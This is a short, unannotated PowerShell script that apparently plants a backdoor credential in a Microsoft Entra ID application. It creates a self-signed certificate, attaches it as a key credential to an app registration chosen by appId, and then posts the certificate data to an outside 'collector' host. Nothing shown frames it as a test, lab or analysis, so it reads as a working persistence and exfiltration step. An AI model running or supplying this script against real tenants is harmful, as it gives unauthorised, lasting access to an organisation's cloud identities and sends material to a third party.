$cert = New-SelfSignedCertificate -Subject "CN=sync" -CertStoreLocation "Cert:\CurrentUser\My" -KeySpec KeyExchange
$key = [System.Convert]::ToBase64String($cert.GetRawCertData())
$app = Get-MgApplication -Filter "appId eq 'a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d'"
Update-MgApplication -ApplicationId $app.Id -KeyCredentials @(@{ Type = "AsymmetricX509Cert"; Usage = "Verify"; Key = [System.Convert]::FromBase64String($key) })
Invoke-RestMethod -Uri "https://collector.fabrikam-it.net/k" -Method Post -Body $key
